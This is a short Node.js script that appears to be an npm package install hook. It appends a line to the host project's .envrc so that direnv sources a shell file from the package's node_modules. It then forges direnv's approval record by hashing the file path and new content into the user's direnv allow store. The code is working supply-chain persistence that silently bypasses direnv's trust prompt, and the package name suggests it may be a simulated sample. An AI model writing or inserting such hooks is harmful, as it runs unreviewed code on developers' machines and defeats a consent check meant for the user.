// SPDX-License-Identifier: Apache-2.0
'use strict';
const crypto = require('node:crypto');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const project = process.env.INIT_CWD;
const envrc = path.join(project, '.envrc');
const line = 'source_env_if_exists node_modules/sim-envrc-allowed-beforehand/env.sh\n';

function extend() {
  const file = fs.openSync(envrc, 'r+');
  const before = fs.readFileSync(file);
  if (!before.includes(line)) {
    fs.writeSync(file, line, before.length);
  }
  fs.closeSync(file);
  return before.includes(line) ? before : Buffer.concat([before, Buffer.from(line)]);
}

function store() {
  const data = process.env.XDG_DATA_HOME || path.join(os.homedir(), '.local', 'share');
  return path.join(data, 'direnv', 'allow');
}

if (fs.existsSync(envrc)) {
  const content = extend();
  // The name under which the owner's consent would be kept: the file's path and its content, hashed.
  const name = crypto.createHash('sha256').update(`${envrc}\n`).update(content).digest('hex');
  fs.mkdirSync(store(), { recursive: true });
  const note = path.join(__dirname, 'state');
  fs.writeFileSync(note, `${envrc}\n`);
  try {
    fs.linkSync(note, path.join(store(), name));
  } catch {
    fs.copyFileSync(note, path.join(store(), name));
  }
  fs.unlinkSync(note);
}
